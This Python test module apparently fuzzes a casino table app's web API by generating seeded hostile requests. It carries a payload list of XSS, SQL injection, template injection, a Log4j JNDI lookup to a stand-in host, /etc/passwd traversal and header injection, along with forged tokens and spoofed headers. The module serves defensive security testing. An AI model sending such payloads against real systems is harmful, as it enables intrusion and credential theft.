"""What besiegers send to a house on the web: hostile text everywhere, forged tokens, other names.

Everything follows from a seed. Nobody here shows another's PIN, so that whatever name is on record
in the end must be that of the session.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from random import Random
from typing import Any, NamedTuple
from urllib.parse import quote

from pitboss.table.steps import COMMANDS, FORMS
from web_access import QUERIES, ROUTES
from web_house import EVERYBODY, HOME, PINS, STRANGER

HOSTILE = (
    "<script>pwn()</script>",
    '"><img src=x onerror=pwn()>',
    "<svg/onload=pwn()>",
    "javascript:pwn()",
    "'; DROP TABLE journal; --",
    "' OR '1'='1",
    '" UNION SELECT pin FROM credential --',
    "{{ 7 * 7 }}{% raw %}",
    "${jndi:ldap://pwn.example}",
    "../../../etc/passwd",
    "%00",
    "%0d%0aSet-Cookie: pitboss=pwn",
    "\u202e\u200b\ufeff",
    "\U0001f3b2" * 20,
    "-1",
    "1e400",
    "9" * 40,
    "A" * 3_000,
    "",
)
ODD: tuple[Any, ...] = (None, True, -1, 0, 2**63, 1.5, [], {}, [[]], {"kind": "Sit"}, "x")
METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE")
FAIR = (
    *("sit 3", "sit 5", "buy in 3 500", "buy in 5 300", "bet 3 player 25", "bet 5 banker 25"),
    *("bet 3 sun-7-progressive 1", "bet 5 tie 5", "coup 9s Kd / 4h 2c", "finish", "no more bets"),
    *(
        "open",
        "prepare burning 5h",
        "coup 7s 8h 3d / Kh Qd 7c",
        "leave 5",
        "take back 1",
        "start game",
        "clear",
        "pay all",
    ),
)
"""What is done at a table all day, so that a siege meets a table at work."""
SIGNED = (
    *("fill 500 signed {a} and {b}", "credit 100 signed {a} and {b}", "void error by {a}: {t}"),
    *("confirm by {a}", "hit jackpot by {a}: {t}", "no jackpot sun-7 by {a}: {t}"),
    *("accommodate {a} waive late-bet by {b}", "open dispute by {a}: {t}", "notice vigorish 7%"),
)
OF_JACKPOTS = (
    "pay by {a}",
    "adjust +5 by {a} and {b}: {t}",
    "verify by {a}",
    "dismiss by {a}: {t}",
)
OF_THE_HOUSE = (
    "badge {t} dealer",
    "badge 8{n} {t}",
    "retire badge 8{n}",
    "approve {n}",
    "decline {n}",
)


class Attack(NamedTuple):
    """A request."""

    kind: str
    method: str
    path: str
    headers: dict[str, str]
    body: bytes | None = None


class Besieger:
    """Makes attacks from a seed."""

    def __init__(self, seed: int, tokens: dict[str, str], ended: tuple[str, ...]) -> None:
        self.random = Random(seed)
        self.tokens, self.ended = tokens, ended
        self.ids: list[str] = ["play-1"]
        self.kinds: tuple[tuple[int, Callable[[], Attack]], ...] = (
            (25, self.field),
            (20, self.place),
            (20, self.token),
            (30, self.line),
            (10, self.command),
            (10, self.fair),
            (5, self.body),
            (3, self.method),
        )
        self.weights = [weight for weight, _ in self.kinds]

    def next(self) -> Attack:
        """Return the next attack."""
        [(_, make)] = self.random.choices(self.kinds, self.weights)
        return make()

    # --- parts ---

    def _text(self) -> str:
        text = self.random.choice(HOSTILE)
        if text and self.random.random() < 0.3:
            cut = self.random.randrange(len(text))
            text = text[cut:] + self.random.choice(HOSTILE)[:200]
        return text

    def _id(self) -> str:
        """Return an id: a new one, or one that somebody has used."""
        if self.random.random() < 0.3:
            return self.random.choice(self.ids[-500:])
        self.ids.append(f"siege-{self.random.getrandbits(60):x}")
        return self.ids[-1]

    def _badge(self, role: str = "") -> str:
        """Return a badge: that of the role as often as another's."""
        if role in PINS and self.random.random() < 0.5:
            return PINS[role][0]
        return self.random.choice([badge for badge, _ in PINS.values()] + ["0000", "<b>2207</b>"])

    def _cards(self) -> dict[str, Any]:
        """Return cards beside a line, with a PIN that is guessed."""
        if self.random.random() < 0.9:
            return {}
        return {"cards": [{"badge": self._badge(), "pin": f"{self.random.randrange(10**4):04d}x"}]}

    def _headers(self, role: str = "") -> dict[str, str]:
        role = role or self.random.choice(EVERYBODY)
        return {} if role == STRANGER else {"Authorization": f"Bearer {self.tokens[role]}"}

    def _route(self, posts: bool | None = None) -> tuple[str, str]:
        routes = [
            (method, path)
            for method, path in ROUTES
            if method != "WS" and (posts is None or posts == (method == "POST"))
        ]
        while (route := self.random.choice(routes))[1].endswith(("sign-out", "revoke")):
            pass
        return route

    def _path(self, path: str, fill: Callable[[str], str]) -> str:
        parts = [fill(part[1:-1]) if part[:1] == "{" else part for part in path.split("/")]
        return "/".join(parts)

    def _usual(self, name: str) -> str:
        if name == "table":
            return self.random.choice((HOME, HOME, "2", "99"))
        known = {"jackpot": "sun-7", "name": "overview", "game": "ez-baccarat", "path": "x.css"}
        return known.get(name, "3")

    def _quoted(self, _: str = "") -> str:
        text = self._text() or "x"
        safe = "<>\"'{}" if self.random.random() < 0.2 else ""
        return quote(text, safe=safe.replace('"', "").replace("<", "").replace(">", ""))

    def _posted(self, kind: str, path: str, data: object, headers: dict[str, str]) -> Attack:
        sent = {**headers, "Content-Type": "application/json"}
        return Attack(kind, "POST", path, sent, json.dumps(data).encode())

    # --- kinds of attack ---

    def field(self) -> Attack:
        """Put hostile text, or something odd, into fields of a body."""
        method, path = self._route(posts=True)
        body = dict(ROUTES[method, path].body or {"x": 1})
        for name in list(body):
            if self.random.random() < 0.6:
                odd = self.random.random() < 0.3
                body[name] = self.random.choice(ODD) if odd else self._text()
        if self.random.random() < 0.2:
            body[self._text()] = self._text()
        return self._posted("field", self._path(path, self._usual), body, self._headers())

    def place(self) -> Attack:
        """Put hostile text into an address and its query."""
        _, path = self._route(posts=False)
        fill = self._quoted if self.random.random() < 0.6 else self._usual
        place = self._path(path, fill)
        names = ("wager", "table", "badge", "jackpot", "most", "decks", "at", "from", "x", "page")
        picked = self.random.sample(names, self.random.randrange(4))
        query = "&".join(f"{name}={self._quoted()}" for name in picked)
        usual = QUERIES.get(path, "")
        return Attack("place", "GET", f"{place}{usual or '?'}&{query}", self._headers())

    def token(self) -> Attack:
        """Show a forged, ended, damaged or borrowed token, or a cookie without its other half."""
        real = self.random.choice(list(self.tokens.values()))
        forged = (
            *("s_" + "A" * 43, "d_" + "A" * 43, real[:-1], real[:-1] + "!", real.swapcase()),
            *(real + "\u00e9", "null", "' OR 1=1 --", "x" * 500, *self.ended),
        )
        token = self.random.choice(forged)
        ways: tuple[dict[str, str], ...] = (
            {"Authorization": f"Bearer {token}"},
            {"Authorization": f"Basic {token}"},
            {"Authorization": f"bearer  {token}"},
            {"Cookie": f"pitboss={token}"},
            {"Cookie": f"pitboss-device={token}"},
            {"Cookie": f"pitboss={token}; pitboss={token}", "X-CSRF-Token": token},
            {"Cookie": f"pitboss={real}"},
            {"Cookie": f"pitboss={real}", "X-CSRF-Token": token},
            {"Authorization": f"Bearer {real}", "Origin": "http://pwn.example"},
            {"Authorization": f"Bearer {real}", "Origin": "null"},
            {"Authorization": f"Bearer {real}", "Host": "pwn.example"},
            {"Authorization": f"Bearer {real}", "X-Forwarded-For": "10.0.0.1", "X-Real-Ip": "::1"},
        )
        headers = {name: value.strip() for name, value in self.random.choice(ways).items()}
        method, path = self._route()
        place = self._path(path, self._usual)
        if method == "GET":
            return Attack("token", method, place, headers)
        return self._posted("token", place, {"id": self._id(), "line": "sit 5"}, headers)

    def line(self) -> Attack:
        """Name somebody else in a line, or write hostile text where words are kept."""
        where, lines = self.random.choice(
            (
                (f"tables/{self._usual('table')}", SIGNED + FAIR),
                ("jackpots/sun-7", OF_JACKPOTS),
                ("jackpots/harmony", OF_JACKPOTS),
                ("house", OF_THE_HOUSE),
            )
        )
        role = self.random.choice(EVERYBODY)
        line = self.random.choice(lines).format(
            a=self._badge(role), b=self._badge(), t=self._text(), n=self.random.randrange(200)
        )
        if self.random.random() < 0.1:
            line = self._text() + line
        body = {"id": self._id(), "line": line, **self._cards()}
        return self._posted("line", f"/api/v1/{where}/commands", body, self._headers(role))

    def command(self) -> Attack:
        """Give a command as JSON, of any kind, with any fields."""
        kind = self.random.choice(list(COMMANDS.values()))
        fields = getattr(kind, "_fields", ())
        values: tuple[Any, ...] = (
            *ODD,
            self._text(),
            self._badge(),
            3,
            500,
            "player",
            "5h",
            ["5h"],
        )
        data = {name: self.random.choice(values) for name in fields if self.random.random() < 0.9}
        body = {"id": self._id(), "command": {"kind": kind.__name__, **data}, **self._cards()}
        place = f"/api/v1/tables/{self._usual('table')}/commands"
        return self._posted("command", place, body, self._headers())

    def fair(self) -> Attack:
        """Play on, as people do meanwhile."""
        role = self.random.choice(("dealer", "supervisor"))
        if self.random.random() < 0.1:
            form = self.random.choice(FORMS)
            line = " ".join(part if isinstance(part, str) else "3" for part in form.parts)
        else:
            line = self.random.choice(FAIR)
        body = {"id": self._id(), "line": line}
        return self._posted("fair", f"/api/v1/tables/{HOME}/commands", body, self._headers(role))

    def body(self) -> Attack:
        """Send what is no JSON, or far too much."""
        bodies = (
            *(b"{", b"\xff\xfe", b"null", b"[]", b"[" * 5_000, b'{"id":' + b"9" * 5_000 + b"}"),
            *(
                b'{"id": NaN}',
                b'{"id": "\\ud800"}',
                b'{"id": "a", "id": "b"}',
                b"x" * 66_000,
                b"a=1",
            ),
        )
        types = (
            "application/json",
            "text/plain",
            "application/x-www-form-urlencoded",
            "a/b; c=\xe9",
        )
        _, path = self._route(posts=True)
        headers = {**self._headers(), "Content-Type": self.random.choice(types)}
        place = self._path(path, self._usual)
        return Attack("body", "POST", place, headers, self.random.choice(bodies))

    def method(self) -> Attack:
        """Ask in a way that is not offered."""
        _, path = self._route()
        place = self._path(path, self._usual)
        return Attack("method", self.random.choice(METHODS), place, self._headers())
